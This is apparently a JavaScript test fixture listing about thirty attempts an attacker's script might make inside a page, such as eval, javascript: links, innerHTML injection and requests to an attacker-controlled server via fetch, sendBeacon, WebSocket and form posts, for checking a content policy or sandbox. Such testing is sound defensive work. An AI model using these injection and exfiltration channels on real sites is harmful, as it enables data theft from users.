// What an attacker's code may try from inside a page, each as `name: (foreign, harm) => …`, where `foreign(path)` is
// an address on a server of the attacker's, and `harm(how)` tells that code ran which should not have.
// Evaluated as one expression by the tests; attempts that work are seen at the foreign server or by `harm`.
({
  "inline script": (foreign, harm) => {
    globalThis.ran = harm;
    const script = document.createElement("script");
    script.textContent = "ran('inline script')";
    document.head.append(script);
  },
  "foreign script": (foreign) => {
    const script = document.createElement("script");
    script.src = foreign("script");
    document.head.append(script);
  },
  "handler in an attribute": (foreign, harm) => {
    globalThis.ran = harm;
    const image = document.createElement("img");
    image.setAttribute("onerror", "ran('handler in an attribute')");
    image.src = "data:image/png;base64,x";
    document.body.append(image);
  },
  "eval": (foreign, harm) => {
    globalThis.ran = harm;
    (0, eval)("ran('eval')");
  },
  "new Function": (foreign, harm) => {
    globalThis.ran = harm;
    new Function("ran('new Function')")();
  },
  "timer with a string": (foreign, harm) => {
    globalThis.ran = harm;
    setTimeout("ran('timer with a string')", 0);
  },
  "script address": (foreign, harm) => {
    globalThis.ran = harm;
    const link = document.createElement("a");
    link.href = "javascript:ran('script address')";
    document.body.append(link);
    link.click();
  },
  "import of data": async (foreign, harm) => {
    globalThis.ran = harm;
    await import("data:text/javascript,ran('import of data')");
  },
  "foreign import": (foreign) => import(foreign("import")),
  "worker from a blob": (foreign, harm) =>
    new Promise((resolve) => {
      const code = new Blob(["postMessage(1)"], { type: "text/javascript" });
      const worker = new Worker(URL.createObjectURL(code));
      worker.onmessage = () => resolve(harm("worker from a blob"));
      worker.onerror = resolve;
    }),
  "worker from data": (foreign, harm) =>
    new Promise((resolve) => {
      const worker = new Worker("data:text/javascript,postMessage(1)");
      worker.onmessage = () => resolve(harm("worker from data"));
      worker.onerror = resolve;
    }),
  "fetch": (foreign) => fetch(foreign("fetch"), { mode: "no-cors" }),
  "fetch with a body": (foreign) => fetch(foreign("fetch-post"), { method: "POST", mode: "no-cors", body: "x" }),
  "XMLHttpRequest": (foreign) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.open("POST", foreign("xhr"));
      request.send("x");
    }),
  "beacon": (foreign) => navigator.sendBeacon(foreign("beacon"), "x"),
  "WebSocket": (foreign) =>
    new Promise((resolve) => {
      const socket = new WebSocket(foreign("websocket").replace("http", "ws"));
      socket.onerror = resolve;
      socket.onopen = resolve;
    }),
  "EventSource": (foreign) =>
    new Promise((resolve) => {
      const source = new EventSource(foreign("eventsource"));
      source.onerror = () => resolve(source.close());
    }),
  "image": (foreign) => new Promise((resolve) => (loading("img", "src", foreign("image"), resolve))),
  "frame": (foreign) => new Promise((resolve) => (loading("iframe", "src", foreign("frame"), resolve))),
  "object": (foreign) => new Promise((resolve) => (loading("object", "data", foreign("object"), resolve))),
  "media": (foreign) => new Promise((resolve) => (loading("video", "src", foreign("media"), resolve))),
  "style sheet": (foreign) =>
    new Promise((resolve) => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = foreign("style");
      link.onload = link.onerror = resolve;
      document.head.append(link);
    }),
  "style in an element": (foreign, harm) => {
    const style = document.createElement("style");
    style.textContent = "body { --harmed: 1 }";
    document.head.append(style);
    if (getComputedStyle(document.body).getPropertyValue("--harmed")) harm("style in an element");
  },
  "font": async (foreign) => {
    await new FontFace("stranger", `url(${foreign("font")})`).load();
  },
  "form": (foreign) => {
    const form = document.createElement("form");
    form.method = "post";
    form.action = foreign("form");
    form.target = "stranger";
    document.body.append(form);
    form.submit();
  },
  "another base": (foreign) => {
    const base = document.createElement("base");
    base.href = foreign("");
    document.head.append(base);
    const link = document.createElement("img");
    link.src = "base";
    document.body.append(link);
  },
  "markup from text": (foreign, harm) => {
    globalThis.ran = harm;
    const place = document.createElement("div");
    document.body.append(place);
    place.innerHTML = "<img src='data:image/png;base64,x' onerror=\"ran('markup from text')\"><p id='injected'></p>";
    if (document.getElementById("injected")) harm("markup from text");
  },
  "markup written": (foreign, harm) => {
    globalThis.ran = harm;
    const other = document.implementation.createHTMLDocument("");
    other.write("<p id='written'></p>");
    if (other.getElementById("written")) harm("markup written");
  },
})
